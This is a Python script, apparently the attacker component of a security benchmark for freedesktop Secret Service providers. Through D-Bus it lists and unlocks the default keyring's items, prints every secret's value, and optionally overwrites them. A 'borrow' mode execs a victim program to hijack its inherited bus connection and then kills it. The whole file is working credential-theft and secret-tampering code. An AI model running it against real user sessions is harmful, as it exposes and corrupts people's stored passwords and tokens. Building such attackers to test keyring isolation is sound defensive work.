#!/usr/bin/python3
"""A same-user attacker on the freedesktop Secret Service, for Benchmarks/attackers.py.

Whatever runs it — Debian's python3, a copy of it nobody installed, python3 bind-mounted over
/usr/bin/secret-tool in a private namespace — it takes every item of the default collection it
can: lists them, asks the provider to unlock the locked ones (waiting at most --wait seconds for
a prompt nobody answers), reads every secret, then tries to replace each one (SetSecret, and
CreateItem with the same attributes and replace=true). One JSON object per line on stdout:
{"listed": label, "attributes": {...}}, {"secret": label, "value": ...}, {"prompt": outcome},
{"set_secret": label}, {"created": label, "item": path}, {"refused": error, "step": ...}.

    attack.py take [--wait S] [--replace VALUE]
    attack.py borrow [--keep] [--wait S] [--replace VALUE] VICTIM [ARGUMENTS…]
        Connects to the bus, forks, and executes VICTIM in the connected process, its standard
        input a pipe nobody writes, so it waits there; the child takes what it can on the
        inherited connection, then kills VICTIM. With --keep the connection's socket stays open
        across the exec. (Tests/Fixtures/SecretService/borrow_bus.py does the same for the tests.)

Run with DBUS_SESSION_BUS_ADDRESS set; needs python3-jeepney (Debian's /usr/lib/python3/dist-packages).
"""
import json
import os
import signal
import sys
import time

from jeepney import DBusAddress, new_method_call
from jeepney.bus_messages import MatchRule, message_bus
from jeepney.io.blocking import open_dbus_connection
from jeepney.wrappers import DBusErrorResponse

SERVICE = "org.freedesktop.secrets"
ROOT = "/org/freedesktop/secrets"
SECRET = "org.freedesktop.Secret"
PROPERTIES = "org.freedesktop.DBus.Properties"


def say(**finding):
    print(json.dumps(finding), flush=True)


def call(connection, path, interface, method, signature=None, body=(), timeout=30):
    message = new_method_call(DBusAddress(path, bus_name=SERVICE, interface=interface), method, signature, body)
    reply = connection.send_and_get_reply(message, timeout=timeout)
    if reply.header.message_type.name == "error":
        raise DBusErrorResponse(reply)
    return reply.body


def refused(step, error):
    if isinstance(error, DBusErrorResponse):
        say(refused=error.name, message=str(error.data[0]) if error.data else "", step=step)
    else:
        say(refused=type(error).__name__, message=str(error), step=step)


def prompt(connection, path, wait):
    """Runs a prompt and waits for its Completed signal: the user's answer, or nobody's."""
    rule = MatchRule(type="signal", interface=f"{SECRET}.Prompt", member="Completed", path=path)
    connection.send_and_get_reply(message_bus.AddMatch(rule))
    with connection.filter(rule) as queue:
        call(connection, path, f"{SECRET}.Prompt", "Prompt", "s", ("",))
        try:
            signal_ = connection.recv_until_filtered(queue, timeout=wait)
        except TimeoutError:
            say(prompt="no answer", seconds=wait)
            return
    dismissed = signal_.body[0]
    say(prompt="dismissed" if dismissed else "completed")


def take(connection, wait, replacement):
    try:
        _, session = call(connection, ROOT, f"{SECRET}.Service", "OpenSession", "sv", ("plain", ("s", "")))
    except Exception as error:  # noqa: BLE001 — every refusal is a finding
        refused("OpenSession", error)
        return
    try:
        (collection,) = call(connection, ROOT, f"{SECRET}.Service", "ReadAlias", "s", ("default",))
        if collection == "/":
            (_, collections), = call(connection, ROOT, PROPERTIES, "Get", "ss", (f"{SECRET}.Service", "Collections"))
            collection = collections[0]
        (_, items), = call(connection, collection, PROPERTIES, "Get", "ss", (f"{SECRET}.Collection", "Items"))
    except Exception as error:  # noqa: BLE001
        refused("list", error)
        return
    labels, attributes = {}, {}
    for item in items:
        try:
            (_, labels[item]), = call(connection, item, PROPERTIES, "Get", "ss", (f"{SECRET}.Item", "Label"))
            (_, attributes[item]), = call(connection, item, PROPERTIES, "Get", "ss", (f"{SECRET}.Item", "Attributes"))
            say(listed=labels[item], attributes=attributes[item])
        except Exception as error:  # noqa: BLE001
            refused("list", error)
    items = list(labels)
    if not items:
        say(listed=None)
        return
    try:
        unlocked, prompt_path = call(connection, ROOT, f"{SECRET}.Service", "Unlock", "ao", (items,))
        if prompt_path != "/":
            prompt(connection, prompt_path, wait)
    except Exception as error:  # noqa: BLE001
        refused("Unlock", error)
    try:
        (secrets,) = call(connection, ROOT, f"{SECRET}.Service", "GetSecrets", "aoo", (items, session))
        for item, (_, _, value, _) in secrets.items():
            say(secret=labels.get(item, item), value=bytes(value).decode(errors="replace"))
    except Exception as error:  # noqa: BLE001
        refused("GetSecrets", error)
    if replacement is None:
        return
    value = (session, b"", replacement.encode(), "text/plain")
    for item in items:
        try:
            call(connection, item, f"{SECRET}.Item", "SetSecret", "(oayays)", (value,))
            say(set_secret=labels[item])
        except Exception as error:  # noqa: BLE001
            refused(f"SetSecret {labels[item]}", error)
        properties = {f"{SECRET}.Item.Label": ("s", labels[item]), f"{SECRET}.Item.Attributes": ("a{ss}", attributes[item])}
        try:
            made, prompt_path = call(connection, collection, f"{SECRET}.Collection", "CreateItem", "a{sv}(oayays)b", (properties, value, True))
            if prompt_path != "/":
                prompt(connection, prompt_path, wait)
            say(created=labels[item], item=made)
        except Exception as error:  # noqa: BLE001
            refused(f"CreateItem {labels[item]}", error)


def borrow(arguments, wait, replacement):
    keep = arguments[:1] == ["--keep"]
    victim = arguments[1:] if keep else arguments
    connection = open_dbus_connection(bus="SESSION")
    if keep:
        os.set_inheritable(connection.sock.fileno(), True)
    before = os.readlink("/proc/self/exe")
    stdin_read, stdin_write = os.pipe()
    parent = os.getpid()
    if os.fork() > 0:
        os.dup2(stdin_read, 0)
        os.close(stdin_write)
        os.execv(victim[0], victim)
    os.close(stdin_read)
    deadline = time.monotonic() + 30
    while os.readlink(f"/proc/{parent}/exe") == before:
        if time.monotonic() > deadline:
            say(refused="the victim never ran", step="exec")
            os.kill(parent, signal.SIGKILL)
            return
        time.sleep(0.01)
    say(borrowed=os.readlink(f"/proc/{parent}/exe"))
    take(connection, wait, replacement)
    os.kill(parent, signal.SIGKILL)


def main(arguments):
    wait, replacement = 20.0, None
    command = arguments.pop(0) if arguments else ""
    while arguments and arguments[0] in ("--wait", "--replace"):
        option, value = arguments.pop(0), arguments.pop(0)
        if option == "--wait":
            wait = float(value)
        else:
            replacement = value
    if command == "take" and not arguments:
        take(open_dbus_connection(bus="SESSION"), wait, replacement)
    elif command == "borrow" and arguments:
        borrow(arguments, wait, replacement)
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
